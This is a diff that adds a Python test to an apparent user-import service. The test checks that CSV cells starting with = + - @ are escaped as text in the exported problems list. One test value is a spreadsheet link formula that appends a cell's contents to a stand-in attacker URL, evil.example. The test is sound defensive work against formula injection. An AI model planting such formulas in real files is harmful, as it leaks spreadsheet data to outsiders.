@@ -485,3 +485,19 @@ def test_an_address_that_has_an_account_says_what_to_do_with_its_line(app, make_
     assert [services.message(p) for p in batch.problems] == [
         "An account with this e-mail address already exists: take this line out of the file (people who already "
         "have an account join a cohort from the cohort's page)"]
+
+
+def test_the_list_of_problems_runs_no_formula_in_a_spreadsheet(app, make_user, monkeypatch):
+    """A cell of the problems' CSV that starts with = + - @ runs as a formula where the file is opened: each is
+    written as text, as the competence framework's export writes them. Today's messages start with their own
+    words or a quotation mark; a translation may start with the value itself, as here."""
+    import csv as csv_module
+
+    monkeypatch.setitem(services.MESSAGES, "position", "%(value)s: write manager or technician")
+    coordinator = make_user(roles=("coordinator",), country="CL")
+    values = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1", "-1", "@SUM(A1)"]
+    data = csv(*(f"p{n}@example.org;P;{value};;;" for n, value in enumerate(values)))
+    batch = services.preview(coordinator, filename="list.csv", data=data, country_code="CL")
+    body, _name = services.problems_csv(batch)
+    rows = list(csv_module.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
+    assert [row[2] for row in rows[1:]] == [f"'{value}: write manager or technician" for value in values]
